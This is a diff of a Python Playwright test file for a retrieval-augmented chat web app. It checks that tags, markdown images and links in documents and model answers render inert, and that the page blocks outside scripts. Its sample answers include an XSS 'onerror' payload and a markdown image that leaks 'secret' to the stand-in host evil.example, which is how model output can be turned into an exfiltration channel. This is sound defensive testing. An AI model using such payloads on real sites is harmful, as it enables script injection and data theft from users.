@@ -2,15 +2,14 @@
 
 from __future__ import annotations
 
-import json
-from collections.abc import Callable
 from typing import Any
 
 import pytest
 
+from ragweave.tests.page.asked import LLM
+
 expect = pytest.importorskip("playwright.sync_api").expect
 
-LLM = json.dumps({"mode": "llm", "route_by": "local", "grade_by": "local", "expand_when": "never", "max_hops": 1})
 SAID = [
     'The beacon is <img src=x onerror="window.stolen=7"> painted red [1].',
     "The beacon is painted ![red](https://evil.example/p?q=secret) red [1].",
@@ -24,9 +23,7 @@ def _untouched(page: Any) -> bool:
     return bool(page.evaluate("window.stolen === undefined"))
 
 
-def test_tags_in_documents_titles_and_file_names_are_shown_as_written(
-    window: Callable[..., Any], ask: Callable[..., Any]
-) -> None:
+def test_tags_in_documents_titles_and_file_names_are_shown_as_written(window: Any, ask: Any) -> None:
     page = window()
     turn = ask(page, "What is the password of the beacon?")
     assert "swordfish" in turn.locator(".answer").inner_text()
@@ -41,9 +38,7 @@ def test_tags_in_documents_titles_and_file_names_are_shown_as_written(
     assert _untouched(page)
 
 
-def test_tags_in_documents_are_shown_as_written_on_the_card_of_a_citation(
-    window: Callable[..., Any], ask: Callable[..., Any], site: Any
-) -> None:
+def test_tags_in_documents_are_shown_as_written_on_the_card_of_a_citation(window: Any, ask: Any, site: Any) -> None:
     site.script.answer = ["The beacon is painted red [1]."]
     page = window(keep={"settings": LLM}, viewport={"width": 1100, "height": 800})
     ask(page, "Which colour is the beacon painted?").locator(".answer .cite").first.hover()
@@ -51,9 +46,7 @@ def test_tags_in_documents_are_shown_as_written_on_the_card_of_a_citation(
     assert page.locator(".card img, .card b, .card script").count() == 0 and _untouched(page)
 
 
-def test_what_a_model_writes_loads_nothing_and_links_nowhere(
-    window: Callable[..., Any], ask: Callable[..., Any], site: Any
-) -> None:
+def test_what_a_model_writes_loads_nothing_and_links_nowhere(window: Any, ask: Any, site: Any) -> None:
     site.script.answer = [f"{sentence} " for sentence in SAID]
     page = window(keep={"settings": LLM})
     turn = ask(page, "Which colour is the beacon painted?")
@@ -62,7 +55,7 @@ def test_what_a_model_writes_loads_nothing_and_links_nowhere(
     assert _untouched(page)
 
 
-def test_markdown_is_drawn_and_its_pictures_and_links_are_inert(window: Callable[..., Any]) -> None:
+def test_markdown_is_drawn_and_its_pictures_and_links_are_inert(window: Any) -> None:
     page = window()
     texts = [
         "**Bold** and *leaning* and `code` and ~~gone~~",
@@ -97,7 +90,7 @@ def test_markdown_is_drawn_and_its_pictures_and_links_are_inert(window: Callable
     assert _untouched(page)
 
 
-def test_the_page_allows_no_script_or_style_but_its_own_files(window: Callable[..., Any]) -> None:
+def test_the_page_allows_no_script_or_style_but_its_own_files(window: Any) -> None:
     page = window(strict=False)
     refused = page.evaluate(
         """async () => {
